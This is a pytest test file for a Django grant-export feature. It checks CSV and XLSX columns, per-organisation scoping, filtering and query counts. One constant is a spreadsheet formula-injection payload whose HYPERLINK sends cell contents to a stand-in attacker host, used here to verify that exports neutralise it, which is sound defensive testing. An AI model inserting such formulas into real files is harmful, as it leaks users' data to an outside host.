"""The grant export: the filtered rows of the list, every page of them, safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from grants.models import Theme
from tests.factories import CountryProjectFactory, GrantFactory, OrganisationFactory

pytestmark = pytest.mark.django_db

HEADER = [
    "Award number",
    "Title",
    "Grantee",
    "Assistance listing",
    "Program officer",
    "Status",
    "Countries",
    "Themes",
    "Start",
    "End",
    "Original end",
    "Obligated (USD)",
    "Original obligated (USD)",
]
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def _csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def _export(client, fmt: str, **params):
    return client.get(reverse("grants:grant_export", args=[fmt]), params)


@pytest.fixture
def evil_grant(world):
    grant = world.grant_a
    grant.title = EVIL
    grant.end_date = datetime.date(2028, 6, 30)
    grant.obligated_amount = Decimal("5250000.50")
    grant.save()
    grant.themes.set(Theme.objects.order_by("name")[:2])
    CountryProjectFactory(grant=grant, country="HN")
    return grant


def test_csv_has_every_column_and_neutralises_formulas(client_for, manager, evil_grant):
    response = _export(client_for(manager), "csv")
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="grants-')
    rows = _csv_rows(response)
    assert rows[0] == HEADER
    row = next(r for r in rows[1:] if r[0] == evil_grant.award_number)
    assert row[1] == "'" + EVIL
    themes = "; ".join(t.name for t in Theme.objects.order_by("name")[:2])
    assert row[2:] == [
        evil_grant.grantee.name,
        "17.401",
        str(evil_grant.program_officer),
        "Active",
        "Guatemala; Honduras",
        themes,
        "2024-01-01",
        "2028-06-30",
        "2027-12-31",
        "5250000.50",
        "5000000.00",
    ]


def test_xlsx_keeps_text_as_text_and_types_numbers_and_dates(client_for, manager, evil_grant):
    response = _export(client_for(manager), "xlsx")
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('.xlsx"')
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert [c.value for c in sheet[1]] == HEADER
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == evil_grant.award_number)
    title = row[1]
    assert title.value == EVIL and title.data_type == "s"  # a string cell, not a formula
    assert row[8].value.date() == datetime.date(2024, 1, 1) and row[8].number_format == "yyyy-mm-dd"
    assert row[11].value == pytest.approx(5250000.50) and row[11].number_format == "#,##0.00"
    assert row[12].value == 5000000


def test_grantee_export_has_only_its_organisations_grants(client_for, grantee_a, world, org_a):
    GrantFactory(grantee=org_a, award_number="IL-33333-24-75-K")
    GrantFactory(grantee=OrganisationFactory(), award_number="IL-44444-24-75-K")
    client = client_for(grantee_a)
    awards = [r[0] for r in _csv_rows(_export(client, "csv"))[1:]]
    assert awards == [world.grant_a.award_number, "IL-33333-24-75-K"]
    # Asking for another organisation's grant by its number or grantee finds nothing.
    assert _csv_rows(_export(client, "csv", q=world.grant_b.award_number))[1:] == []
    sheet = load_workbook(io.BytesIO(_export(client, "xlsx").content)).active
    assert [r[0] for r in sheet.iter_rows(min_row=2, values_only=True)] == awards
    grantees = {r[2] for r in sheet.iter_rows(min_row=2, values_only=True)}
    assert grantees == {org_a.name}


def test_export_applies_the_list_filters_to_all_pages(client_for, manager, world):
    GrantFactory.create_batch(30, status="pipeline")
    client = client_for(manager)
    rows = _csv_rows(_export(client, "csv", status="pipeline"))[1:]
    assert len(rows) == 30 and {r[5] for r in rows} == {"Pipeline"}
    rows = _csv_rows(_export(client, "csv", country="KE"))[1:]
    assert [r[0] for r in rows] == [world.grant_b.award_number]
    # An invalid filter exports nothing, as the list shows nothing.
    assert _csv_rows(_export(client, "csv", status="bogus"))[1:] == []


def test_unknown_format_is_404(client_for, manager, world):
    assert _export(client_for(manager), "pdf").status_code == 404
    assert _export(client_for(manager), "CSV").status_code == 404


def test_export_is_get_only(client_for, manager, world):
    assert client_for(manager).post(reverse("grants:grant_export", args=["csv"])).status_code == 405


def _export_queries(client, fmt: str) -> int:
    with CaptureQueriesContext(connection) as ctx:
        response = _export(client, fmt)
        if fmt == "csv":
            _csv_rows(response)  # streamed: the rows are read while the body is consumed
    return len(ctx.captured_queries)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_query_count_does_not_grow_with_rows(
    client_for, manager, world, fmt, django_assert_max_num_queries
):
    client = client_for(manager)
    small = _export_queries(client, fmt)
    themes = list(Theme.objects.all()[:2])
    for _ in range(40):
        grant = GrantFactory()
        grant.themes.set(themes)
        CountryProjectFactory(grant=grant, country="GT")
    # session, user, the country choices (to validate the filter), grants with grantee and officer,
    # their countries, their themes.
    with django_assert_max_num_queries(6):
        rows = _csv_rows(_export(client, "csv")) if fmt == "csv" else _export(client, fmt)
    if fmt == "csv":
        assert len(rows) == 43
    assert _export_queries(client, fmt) == small
